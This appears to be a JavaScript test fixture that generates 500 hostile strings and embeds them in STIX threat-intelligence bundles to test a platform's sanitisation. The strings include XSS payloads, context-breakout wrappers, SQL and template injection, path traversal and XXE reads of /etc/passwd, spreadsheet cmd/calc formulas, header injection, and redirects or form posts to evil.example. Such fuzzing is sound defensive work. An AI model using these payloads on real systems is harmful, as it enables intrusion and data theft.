// Five hundred texts that try to be more than text, and objects of every kind that carry them.
//
// Each tries to run script, to open an element of its own (xss-probe), or to break out of where it stands. The policy of the desk
// would stop the script anyway; the tests look at the elements, so that an injection is found although it was harmless.
import { randomUUID } from "node:crypto";

const RUN = "globalThis.__ran=1;alert(1)";

// What is wanted: script, an element, a place elsewhere.
const AIMS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><xss-probe>`,
  `<xss-probe onclick=alert(1)>press</xss-probe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">open</a>`,
  `<style>*{display:none}</style><xss-probe>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<form action=http://evil.example/><input name=q autofocus onfocus=alert(1)>`,
  `<base href=http://evil.example/>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<details open ontoggle=alert(1)><xss-probe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload=alert(1)><xss-probe>`,
  `<template><xss-probe></template><xss-probe>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<button formaction=javascript:alert(1)>go</button>`,
  `<input type=image src=x onerror=alert(1)>`,
];

// Where a text may stand, and how it would get out of there.
const WAYS = [
  (aim) => aim,
  (aim) => `">${aim}`,
  (aim) => `'>${aim}`,
  (aim) => `</textarea>${aim}`,
  (aim) => `</title>${aim}`,
  (aim) => `</script>${aim}`,
  (aim) => `</style>${aim}`,
  (aim) => `--><!-- -->${aim}`,
  (aim) => `]]>${aim}`,
  (aim) => `%3C${aim.slice(1)}`,
  (aim) => `&lt;${aim.slice(1)}`,
  (aim) => `&amp;lt;${aim.slice(1)} ${aim}`,
  (aim) => `[open](${aim})`,
  (aim) => `![x](x "${aim}")`,
  (aim) => `{{ ${aim} }}{% raw %}`,
  (aim) => `\${${aim}}#{${aim}}`,
  (aim) => `\u202E${aim}\u202C\u200B`,
  (aim) => `${aim.toUpperCase()}${aim}`,
  (aim) => aim.replaceAll("<", "\uFF1C<").replaceAll(">", ">\uFEFF"),
  (aim) => `${aim.replaceAll(" ", "\t")}\n\r\n${aim}`,
];

const SINGLE = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
  "//evil.example/x", "http://evil.example/\"onmouseover=alert(1) x=\"", "\" onfocus=alert(1) autofocus x=\"", "' onfocus=alert(1) autofocus x='",
  "` onfocus=alert(1) autofocus x=`", "x onmouseover=alert(1)", "</", "<", ">", "&", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "<%= 7*7 %>", "{%25 include x %}", "#{7*7}", "{{{x}}}", "[[7*7]]", "*{7*7}", "@{7*7}",
  "__proto__", "constructor", "toString", "prototype", "null", "undefined", "NaN", "true", "-1", "1e999", "../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\CON",
  "'; DROP TABLE objects; --", "\" OR \"\"=\"", "1; ATTACH DATABASE 'x' AS y", "name:* OR NEAR(", "\"unbalanced", "(((((", "* ^ : -", "AND OR NOT", "a AND",
  "\u202Egnp.exe\u202C", "\u2066isolate\u2069 after", "\u200Fright\u200E left", "مرحبا <b>بالعالم</b>", "שלום <script>alert(1)</script>", "e\u0301\u0327\u0489\u0488".repeat(40),
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}".repeat(20), "A".repeat(3000), "W".repeat(300), "long-word-without-any-place-to-break-".repeat(30).replaceAll("-", ""),
  "line\nbreak\r\nand\ttab", "\u0001\u0002\u001B[31mred\u001B[0m", "\uFFFD\uFFFE\uFDD0", "\u2028line\u2029paragraph", "\u00A0\u3000\u2003", "＜script＞alert(1)＜/script＞",
  "%00%0a%0d%3Cscript%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>", "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)", "<!--<img src=--><img src=x onerror=alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>", "<xss-probe/x>", "<xss-probe\n>", "<xss-probe\u0000>".replace("\u0000", ""),
  "[x](javascript:alert(1))", "[x]: javascript:alert(1)", "<javascript:alert(1)>", "![](http://evil.example/x.png)", "<http://evil.example/>", "http://evil.example/<script>",
  "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1",
  "Set-Cookie: a=b", "x\r\nX-Injected: yes", "on<script>error=alert(1)", "style=display:none", "class=\"label\" data-label=\"TLP:CLEAR\"", "TLP:CLEAR", "unmarked",
  "expression(alert(1))", "url(javascript:alert(1))",
];

const all = [];
for (const way of WAYS) for (const aim of AIMS) all.push(way(aim));
for (const text of SINGLE) all.push(text);
// Each is known by a number of its own, so that a page can be asked for it.
export const PAYLOADS = all.slice(0, 500).map((text, index) => `§${index}§${text}`);

// Names of properties have a limit of 250 bytes.
const shortened = (text) => [...text].slice(0, 60).join("");

const SECONDS = "2026-03-01T12:00:00.000Z";
const id = (type) => `${type}--${randomUUID()}`;

// Makes objects over whose text fields the payloads are spread; each payload stands in at least one of them.
export function hostileBundle() {
  let next = 0;
  const text = () => PAYLOADS[next++ % PAYLOADS.length];
  const objects = [];
  const common = (type) => ({ type, spec_version: "2.1", id: id(type), created: SECONDS, modified: SECONDS });
  const more = () => ({ labels: [text(), text()], external_references: [{ source_name: text(), description: text(), url: text(), external_id: text() }], x_comity_test: { [shortened(text())]: [text()] } });
  const makers = [
    () => ({ ...common("threat-actor"), name: text(), description: text(), aliases: [text()], goals: [text()], roles: [text()], ...more() }),
    () => ({ ...common("malware"), name: text(), description: text(), is_family: false, aliases: [text()], kill_chain_phases: [{ kill_chain_name: text(), phase_name: text() }], ...more() }),
    () => ({ ...common("identity"), name: text(), description: text(), contact_information: text(), roles: [text()], sectors: [text()], identity_class: text() }),
    () => ({ ...common("location"), name: text(), description: text(), city: text(), street_address: text(), postal_code: text(), administrative_area: text(), latitude: 41.01, longitude: 28.98, precision: 1000 }),
    () => ({ ...common("location"), name: text(), country: text(), region: text() }),
    () => ({ ...common("report"), name: text(), description: text(), published: SECONDS, report_types: [text()], object_refs: objects.slice(-4).map((object) => object.id) }),
    () => ({ ...common("note"), abstract: text(), content: text(), authors: [text()], object_refs: objects.slice(-3).map((object) => object.id) }),
    () => ({ ...common("opinion"), opinion: "agree", explanation: text(), authors: [text()], object_refs: objects.slice(-1).map((object) => object.id) }),
    () => ({ ...common("indicator"), name: text(), description: text(), pattern_type: "stix", pattern: `[url:value = '${text().replaceAll("\\", "\\\\").replaceAll("'", "\\'")}']`, valid_from: SECONDS, ...more() }),
    () => ({ ...common("indicator"), name: text(), pattern_type: text(), pattern: text(), valid_from: SECONDS, indicator_types: [text()] }),
    () => ({ type: "url", spec_version: "2.1", id: id("url"), value: text() }),
    () => ({ type: "domain-name", spec_version: "2.1", id: id("domain-name"), value: text() }),
    () => ({ type: "email-addr", spec_version: "2.1", id: id("email-addr"), value: text(), display_name: text() }),
    () => ({ type: "user-account", spec_version: "2.1", id: id("user-account"), user_id: text(), account_login: text(), display_name: text() }),
    () => ({ type: "file", spec_version: "2.1", id: id("file"), name: text(), mime_type: text() }),
    () => ({ ...common("relationship"), relationship_type: "related-to", description: text(), source_ref: objects.at(-2).id, target_ref: objects.at(-5).id }),
    () => ({ ...common("campaign"), name: text(), description: text(), objective: text(), aliases: [text()], first_seen: SECONDS, last_seen: "2026-04-01T00:00:00.000Z" }),
    () => ({ ...common("x-hostile-thing"), name: text(), anything: { deep: [{ deeper: text() }] }, extensions: { [id("extension-definition")]: { extension_type: "new-sdo" } } }),
  ];
  while (next < PAYLOADS.length) for (const make of makers) objects.push(make());
  return { type: "bundle", id: id("bundle"), objects };
}

// Words for the places where people of the node itself write: names of officers and organisations, titles, search words.
export const OWN = `"><xss-probe>'</title><script>${RUN}</script>`;
